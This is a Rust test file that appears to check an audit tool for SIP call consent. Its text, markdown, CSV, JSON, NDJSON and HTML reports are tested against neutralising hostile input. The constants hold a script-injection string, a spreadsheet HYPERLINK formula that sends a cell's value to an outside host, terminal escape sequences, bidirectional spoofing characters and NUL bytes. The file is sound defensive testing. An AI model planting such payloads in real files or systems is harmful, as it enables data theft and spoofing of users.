//! Text that attacks, in every format: inert where people read it, whole where programs do. One test for each attack and
//! format; that none of it runs in a browser is held by `html.rs`.

use serde_json::Value;
use sipconsent::report::escape;
use tempfile::TempDir;

use crate::hostile::obeyed;
use crate::support::here;
use crate::support::run::program;
use crate::support::scene::Scene;

const MARKUP: &str = "<script>owned=1</script><img src=x onerror=owned=1>`|x|`[y](javascript:z)";
const FORMULA: &str = "=HYPERLINK(\"http://x/?\"&A1,\"y\")";
const TERMINAL: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31mred\u{8}\u{7f}";
const BIDI: &str = "\u{202e}gpj.exe\u{2066}x\u{200f}\u{2028}y";
const NUL: &str = "a\u{0}b\u{0}";

/// A folder of evidence whose Call-ID, parties, consent value, client, error code, target and file name hold `attack`.
fn evidence(attack: &str) -> TempDir {
    let folder = TempDir::new().expect("a folder");
    let quoted = |text: &str| Value::from(text).to_string().replace('\u{7f}', "\\u007f");
    let uri = quoted(&format!("sip:{attack}@203.0.113.10"));
    let attack = quoted(attack);
    let scene = format!(
        "purpose = \"\"\nclause = \"\"\n\
         calls = [{{ call_id = {attack}, from = \"carrier\", to = \"platform\", consent = {attack}, from_uri = {uri}, \
         answer_headers = [\"x-inin-cnv: c1\"] }}]\n\
         log = [{{ at = 200, target = \"/api/v2/conversations/c1/recordings\", status = 403, client = {attack}, \
         error_code = {attack} }}]\n"
    );
    let scene = Scene::parse(&scene).unwrap_or_else(|error| panic!("{error}\n{scene}"));
    scene.evidence().write_to(folder.path());
    folder
}

/// The report of that evidence.
fn report(attack: &str, format: &str) -> String {
    let folder = evidence(attack);
    let config = here("fixtures/calls/sipconsent.toml");
    let config = config.to_string_lossy();
    let run = program(folder.path(), ["audit", "-v", "-c", &config, "--show", "all", "-f", format, "."]);
    assert_eq!(run.code, Some(1), "{}", run.ending());
    String::from_utf8(run.stdout).expect("UTF-8")
}

/// Holds that nothing of a text acts on who shows it, line ends of its own aside.
fn acts_on_nobody(text: &str) {
    let bad: Vec<char> = text.chars().filter(|one| obeyed(*one) && *one != '\r').collect();
    assert_eq!(bad, [' '; 0], "{}", text.escape_unicode());
}

fn in_text(attack: &str) {
    let text = report(attack, "text");
    acts_on_nobody(&text);
    let shown = escape::bytes(attack.as_bytes());
    assert!(text.contains(&format!("Call-ID       {shown}\n")), "{shown} is not in\n{text}");
}

fn in_markdown(attack: &str) {
    let text = report(attack, "markdown");
    acts_on_nobody(&text);
    let shown = escape::code_span(&escape::bytes(attack.as_bytes()));
    assert!(text.contains(&format!("**Call-ID**: {shown}\n")), "{shown} is not in\n{text}");
    for line in text.lines() {
        let outside: String = line.split('`').step_by(2).collect();
        assert!(
            line.matches('`').count() % 2 == 0 && !outside.contains(['<', '>', '|']) || line.starts_with('|'),
            "{line}"
        );
        assert!(!outside.contains("owned") && !outside.contains("]("), "{line}");
    }
}

/// Rows as RFC 4180 reads them.
fn rows(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '"' if quoted && characters.peek() == Some(&'"') => cell.extend(characters.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            other => cell.push(other),
        }
    }
    rows
}

fn in_csv(attack: &str) {
    let text = report(attack, "csv");
    acts_on_nobody(&text);
    let rows = rows(&text);
    assert!(rows.len() == 2 && rows[0].len() == rows[1].len(), "{text}");
    for cell in &rows[1] {
        assert!(!cell.trim_start().starts_with(['=', '+', '-', '@']), "a formula: {cell}");
    }
    let column = rows[0].iter().position(|name| name == "call_id").expect("the column");
    let shown = escape::bytes(attack.as_bytes());
    assert_eq!(rows[1][column].strip_prefix('\'').unwrap_or(&rows[1][column]), shown);
}

/// Where the attack must stand in a leg of the JSON, and stand whole.
fn whole_in(leg: &Value, attack: &str) {
    assert_eq!(leg["call_id"], attack);
    let request = &leg["requests"][0];
    assert_eq!((&request["client"], &request["error_code"]), (&Value::from(attack), &Value::from(attack)));
}

fn in_json(attack: &str) {
    let text = report(attack, "json");
    assert!(!text.chars().any(|one| one.is_ascii_control() && one != '\n' && one != '\u{7f}'), "{text}");
    let report: Value = serde_json::from_str(&text).expect("JSON");
    whole_in(&report["calls"][0]["legs"][0], attack);
}

fn in_ndjson(attack: &str) {
    let text = report(attack, "ndjson");
    assert_eq!(text.lines().count(), 2, "a line for the leg and one for the rest");
    let leg: Value = serde_json::from_str(text.lines().next().unwrap_or_default()).expect("JSON");
    assert_eq!(leg["type"], "leg");
    whole_in(&leg, attack);
}

fn in_html(attack: &str) {
    let page = report(attack, "html");
    acts_on_nobody(&page);
    for markup in ["<script>owned", "<img", "onerror=\"", "href=\"javascript"] {
        assert!(!page.contains(markup), "{markup} stands in the page");
    }
    let shown = escape::bytes(attack.as_bytes()).replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let shown = shown.replace('"', "&quot;");
    assert!(page.contains(&format!("<bdi>{shown}</bdi>")), "{shown} is not in the page");
}

/// One test for each attack and format.
macro_rules! attacks {
    ($($name:ident: $attack:ident in $format:ident;)*) => { $(#[test] fn $name() { $format($attack); })* };
}

attacks! {
    markup_in_text: MARKUP in in_text;
    markup_in_markdown: MARKUP in in_markdown;
    markup_in_csv: MARKUP in in_csv;
    markup_in_json: MARKUP in in_json;
    markup_in_ndjson: MARKUP in in_ndjson;
    markup_in_html: MARKUP in in_html;
    formulas_in_text: FORMULA in in_text;
    formulas_in_markdown: FORMULA in in_markdown;
    formulas_in_csv: FORMULA in in_csv;
    formulas_in_json: FORMULA in in_json;
    formulas_in_ndjson: FORMULA in in_ndjson;
    formulas_in_html: FORMULA in in_html;
    terminal_escapes_in_text: TERMINAL in in_text;
    terminal_escapes_in_markdown: TERMINAL in in_markdown;
    terminal_escapes_in_csv: TERMINAL in in_csv;
    terminal_escapes_in_json: TERMINAL in in_json;
    terminal_escapes_in_ndjson: TERMINAL in in_ndjson;
    terminal_escapes_in_html: TERMINAL in in_html;
    direction_marks_in_text: BIDI in in_text;
    direction_marks_in_markdown: BIDI in in_markdown;
    direction_marks_in_csv: BIDI in in_csv;
    direction_marks_in_json: BIDI in in_json;
    direction_marks_in_ndjson: BIDI in in_ndjson;
    direction_marks_in_html: BIDI in in_html;
    nul_in_text: NUL in in_text;
    nul_in_markdown: NUL in in_markdown;
    nul_in_csv: NUL in in_csv;
    nul_in_json: NUL in in_json;
    nul_in_ndjson: NUL in in_ndjson;
    nul_in_html: NUL in in_html;
}
